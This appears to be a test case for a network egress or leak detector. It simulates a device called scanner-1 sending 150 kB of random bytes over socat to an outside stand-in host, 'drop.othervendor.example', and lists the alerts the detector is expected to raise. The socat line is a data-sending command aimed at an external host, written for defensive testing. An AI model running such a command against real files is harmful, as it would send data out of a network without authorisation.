says='scanner-1 sends 150 kB of random bytes to a port outside, in no known protocol'
twin=desk-upload
expected='
  endpoint.not-allowed scanner-1 | drop.othervendor.example tcp/4433
  leak.unknown-encrypted scanner-1 | drop.othervendor.example tcp/4433
'
prepare() {
  serve out sink socat -u TCP-LISTEN:4433,bind=198.51.100.41,fork,reuseaddr OPEN:"$work/sink",creat,append
  wait_port out 198.51.100.41 4433
}
act() {
  head -c 150000 /dev/urandom >"$work/noise"
  quiet on scanner1 socat -u OPEN:"$work/noise" TCP:drop.othervendor.example:4433
}
